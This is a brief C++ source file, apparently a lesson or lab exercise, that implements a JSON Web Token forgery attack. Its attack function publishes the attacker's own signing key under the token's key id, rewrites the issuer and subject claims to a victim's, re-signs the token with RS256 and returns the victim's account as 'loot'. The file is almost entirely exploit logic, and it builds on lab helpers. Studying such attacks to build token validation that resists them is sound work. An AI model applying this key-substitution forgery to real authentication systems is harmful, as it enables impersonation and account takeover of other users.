// Unusual: replaces the key of its own provider, and so keeps the header as it is.
#include "rogue_provider.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto token = evidence.own_token;
  evidence.publish(evidence.own_key.with_id(token.header.text("kid").value_or("none")));
  token.claims.merge({{"iss", evidence.victim.issuer}, {"sub", evidence.victim.subject}});
  return {.account = evidence.show_me(sign_rs256(token, evidence.own_key)).body};
}

}  // namespace lesson
